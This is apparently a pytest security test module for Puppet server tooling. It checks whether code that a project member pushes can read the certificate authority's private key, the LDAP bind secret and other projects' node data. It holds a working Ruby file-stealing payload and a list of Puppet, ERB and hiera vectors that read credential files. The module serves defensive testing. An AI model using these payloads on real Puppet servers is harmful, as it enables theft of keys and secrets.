"""Code that a member pushes does its worst in one puppetserver for all, which is the authority, too.

Real pushes, answers, a puppetserver with an account of its own, and agents. `members_code` is `trusted`, so nothing
looks at what is pushed. What the code takes from the disk it leaves in a file. Where authority and domains are apart:
tests/real/test_module_applied.py.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import ssl
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import yaml

from enc.cli import main as enc_admin
from git_hooks.cli import main as branch_manager
from puppetmaster_quickstart.private_master import PrivateMaster
from puppetmaster_quickstart.puppetserver_files import MasterSettings, exec_terminus
from tests.real.conftest import SlapdMaker
from tests.support.following import REPOSITORY, add_node, add_project
from tests.support.machines import needs_root
from tests.support.puppetserver import MakeMaster
from tests.support.pushes import ManagedRepository, populate
from tests.support.reachable import reachable
from tests.support.worst_member import COMPILER

RED, BLUE, DB = "web1.example.org", "shop.example.org", "db.example.org"
"""A node of the attacker's project, one of another project, and one of the site's own."""
SECRET = "only-of-the-site"
SERVER, FOLLOWER = 64110, 64113
"""Accounts."""
OWN = COMPILER + """
Puppet::Functions.create_function(:own) do
  def own(places)
    found = places.flat_map { |place| Dir.glob(place, File::FNM_DOTMATCH) + [place] }.uniq.to_h do |path|
      [path, File.binread(path, 200_000).encode('UTF-8', 'BINARY', invalid: :replace, undef: :replace)]
    rescue SystemCallError => e
      [path, "#{e.class}"]
    end
    found['who'] = Process.uid.to_s
    require 'json'
    File.write(LOOT, JSON.generate(found))
    'done'
  end
end
"""


@dataclass
class Site:
    """The parts, each below a directory that everybody passes through."""

    base: Path
    repository: ManagedRepository
    master: PrivateMaster

    @property
    def loot(self) -> Path:
        return self.base / "loot/found.json"


@pytest.fixture(scope="module")
def base() -> Iterator[Path]:
    """A directory that all accounts pass through; older than the servers below it, so it goes after them."""
    needs_root()
    with reachable() as base:
        yield base


@pytest.fixture(scope="module")
def site(base: Path, make_module_slapd: SlapdMaker, make_master: MakeMaster) -> Site:
    slapd = make_module_slapd()
    populate(slapd)
    add_project(slapd, "ops")
    add_node(slapd, DB, "ops", puppetVar=f"password={SECRET}", puppetmasterData=f'key="{SECRET}"')
    slapd.add("ou=blue,ou=hosts,dc=example,dc=org", {"objectClass": "organizationalUnit", "ou": "blue"})
    add_node(slapd, BLUE, "blue", environment="project_blue", puppetmasterData=f'key="{SECRET}-blue"')
    (base / "loot").mkdir()
    (base / "loot").chmod(0o1777)
    repository = ManagedRepository(base / "managed", slapd)
    branch_manager(["--config", str(repository.configuration), "deploy"])
    return Site(base, repository, make_master(base / "master", MasterSettings()))


def configured(site: Site) -> tuple[Path, dict[str, str]]:
    """Return the configuration of the server, whose answers are written, and what its puppet.conf says of it."""
    place = site.base / "etc"
    place.mkdir()
    document = yaml.safe_load(site.repository.configuration.read_text())
    document["answers"]["directory"] = str(place / "answers")
    document["branches"] |= {"store": str(place / "store"), "environments": str(place / "environments")}
    (place / "ldap.secret").touch(mode=0o600)
    (place / "ldap.secret").write_text(Path(document["directory"]["bind_password_file"]).read_text())
    document["directory"]["bind_password_file"] = str(place / "ldap.secret")
    configuration = place / "config.yaml"
    configuration.write_text(yaml.safe_dump(document))
    for command, words in ((enc_admin, ("follow", "--once")), (branch_manager, ("deploy",))):
        assert command(["--config", str(configuration), *words]) == 0
    # As the units and the module have it: the follower's account owns, puppetserver's group reads the answers.
    subprocess.run(["chown", "-R", f"{FOLLOWER}:{SERVER}", place / "answers"], check=True)
    os.chown(place / "ldap.secret", 0, SERVER)
    (place / "ldap.secret").chmod(0o440)
    # A checkout in somebody's home is closed to the server's account.
    program = Path(shutil.copy(REPOSITORY / "enc/enc", site.base / "enc"))
    terminus = exec_terminus(program, "--config", str(configuration))
    return configuration, {**terminus, "environmentpath": str(place / "environments"), "environment_timeout": "0"}


def attack(site: Site, configuration: Path, places: list[Path]) -> None:
    """Push as a member of red what takes `places` when a node of red gets its catalog; deploy it at a machine."""
    site.loot.unlink(missing_ok=True)
    site.repository.reset()
    listed = ", ".join(f"'{place}'" for place in places)
    files = {
        "manifests/site.pp": f"node default {{ $got = own([{listed}]) }}",
        "modules/m/lib/puppet/functions/own.rb": OWN.replace("LOOT", repr(str(site.loot))),
    }
    done = site.repository.push([{"ref": "project/red", "files": files}], who="mia")
    assert done.status == 0, done.output
    assert branch_manager(["--config", str(configuration), "deploy"]) == 0


def catalog(site: Site, certname: str) -> tuple[int, str]:
    """Return status and text of what a node gets; it has its certificate from the authority."""
    ssldir, port = site.base / "nodes" / certname, site.master.settings.port
    if not ssldir.exists():
        bootstrap(certname, ssldir, port)
    context = ssl.create_default_context(cafile=str(ssldir / "certs/ca.pem"))
    context.load_cert_chain(ssldir / f"certs/{certname}.pem", ssldir / f"private_keys/{certname}.pem")
    connection = http.client.HTTPSConnection("localhost", port, context=context, timeout=60)
    try:
        address = f"/puppet/v3/catalog/{certname}?environment=production"
        connection.request("GET", address, headers={"Accept": "application/json"})
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    finally:
        connection.close()


KEY, LDAP, THEIRS = "/var/lib/puppet/ca/ca_key.pem", "/etc/puppetmaster/ldap.secret", "/var/lib/puppetmaster/answers"
TAKES = {
    "modules/m/lib/puppet/functions/own.rb": OWN,
    "modules/m/lib/puppet/type/own.rb": OWN,
    "modules/m/lib/puppet/reports/own.rb": OWN,
    "modules/m/files/own.rb": OWN,
    "modules/m/lib/facter/own.rb": OWN,
    "manifests/runtime.pp": "$a = Runtime[ruby, '../files/own'] <= Runtime[ruby, 'Object']",
    "environment.conf": f"config_version = get\nmodulepath = {THEIRS}/../project_blue/modules\n",
    "manifests/program.pp": f"$a = generate('/bin/cat', '{KEY}')",
    "modules/m/templates/a.erb": f"<%= File.read('{KEY}') %>",
    "manifests/template.pp": f"$a = inline_template(\"<%= File.read('{KEY}') %>\")",
    "manifests/key.pp": f"notify {{ file('{KEY}'): }}",
    "manifests/password.pp": f"notify {{ \"${{binary_file('{LDAP}')}}\": }}",
    "manifests/first.pp": f"notify {{ find_file(['/x', '{LDAP}']): }}",
    "manifests/epp.pp": f"notify {{ epp('{LDAP}'): }}",
    "manifests/computed.pp": "$from = $facts['from']\nnotify { file($from): }",
    "hiera.yaml": f"version: 5\nhierarchy: [{{name: a, datadir: {THEIRS}/hiera/nodes, path: {DB}.yaml}}]\n",
    "modules/m/hiera.yaml": "version: 5\nhierarchy: [{name: a, path: '%{facts.whose}.yaml'}]\n",
}
"""Files of a member's branch, each of which takes what the last test here takes, or data of others' nodes."""


@pytest.fixture
def by_default(site: Site) -> Iterator[ManagedRepository]:
    """The repository as it is where nobody has set `members_code`, with a branch of the member's."""
    trusted = site.repository.configuration.read_text()
    document = yaml.safe_load(trusted)
    del document["branches"]["members_code"]
    site.repository.configuration.write_text(yaml.safe_dump(document))
    site.repository.reset()
    try:
        yield site.repository
    finally:
        site.repository.configuration.write_text(trusted)


def test_reviewed_code_lets_none_of_it_in(by_default: ManagedRepository) -> None:
    """The default: the push is refused, whole, and each file is named with the reason."""
    harmless = {"manifests/site.pp": "include m", "modules/m/manifests/init.pp": "class m {}", "get": "#!/bin/sh\n"}
    before = by_default.refs()
    named, left = set[str](), dict(TAKES)
    while left:
        done = by_default.push([{"ref": "project/red", "files": harmless | left}], who="mia")
        assert done.status and by_default.refs() == before, (left.keys(), done.output)
        new = {path for path in left if f" {path}: " in done.output}
        assert new, (left.keys(), done.output)
        assert not [path for path in harmless if f" {path}: " in done.output], done.output
        left = {path: text for path, text in left.items() if path not in new}
        named |= new
    assert named == TAKES.keys()
    done = by_default.push([{"ref": "project/red", "files": harmless}], who="mia")
    assert done.status == 0, done.output
    by_default.reset()
    done = by_default.push([{"ref": "project/red", "files": by_data(Path("/x"))}], who="mia")
    assert done.status and " modules/m/files/own.rb: Puppet code can make puppetserver load any" in done.output


def test_in_one_process_members_have_the_authority_and_everybodys_catalogs(site: Site) -> None:
    configuration, server = configured(site)
    master = site.master
    launcher = ("setpriv", "--reuid", str(SERVER), "--regid", str(SERVER), "--clear-groups", "--no-new-privs")
    master.settings = replace(master.settings, server=server, launcher=launcher)
    master.write()
    subprocess.run(["chown", "-R", f"{SERVER}:{SERVER}", master.base], check=True)
    master.start()
    for name in (RED, BLUE, DB):
        status, text = catalog(site, name)
        assert status == 200 and "code of project red" not in text
    key = master.base / "puppet/ca/ca_key.pem"
    data = configuration.parent / "answers/hiera/nodes"
    secret = configuration.with_name("ldap.secret")
    attack(site, configuration, [key, secret, data / f"{DB}.yaml", data / f"{BLUE}.yaml"])
    catalog(site, RED)
    found = json.loads(site.loot.read_text())
    assert found["who"] == str(SERVER)
    assert "PRIVATE KEY" in found[str(key)] and found[str(secret)] == secret.read_text()
    assert SECRET in found[str(data / f"{DB}.yaml")] and f"{SECRET}-blue" in found[str(data / f"{BLUE}.yaml")]
    for name in (BLUE, DB):
        assert f"code of project red on {name}" in catalog(site, name)[1]
    # Where no manifest says it: data name a class of Ruby, and Puppet loads the file of that name.
    site.loot.unlink()
    site.repository.reset()
    done = site.repository.push([{"ref": "project/red", "files": by_data(site.loot)}], who="mia")
    assert done.status == 0, done.output
    assert branch_manager(["--config", str(configuration), "deploy"]) == 0
    catalog(site, RED)
    assert site.loot.read_text() == str(SERVER)


def by_data(loot: Path) -> dict[str, str]:
    """Return files of which none is below lib/ but one that says nothing, and no call is made but lookup()."""
    options = {key: {"convert_to": "Type"} for key in ("a", "b")}
    data = {"lookup_options": options, "a": "Runtime[ruby, '../files/own']", "b": "Runtime[ruby, 'Object']"}
    return {
        "manifests/site.pp": "node default { $x = lookup('a') <= lookup('b') }",
        "hiera.yaml": "version: 5\nhierarchy: [{name: a, path: a.yaml}]\n",
        "data/a.yaml": yaml.safe_dump(data),
        "modules/m/lib/facter/x": "",
        "modules/m/files/own.rb": f"File.write({str(loot)!r}, Process.uid.to_s)",
    }


def bootstrap(certname: str, ssldir: Path, port: int) -> None:
    """Get a key, and a certificate from the authority."""
    place = ssldir.parent / f"{certname}.bootstrap"
    command = ["puppet", "ssl", "bootstrap", "--confdir", str(place), "--vardir", str(place), "--ssldir", str(ssldir)]
    command += ["--server", "localhost", "--serverport", str(port), "--certname", certname, "--keylength", "2048"]
    command += ["--waitforcert", "0", "--http_keepalive_timeout", "0"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
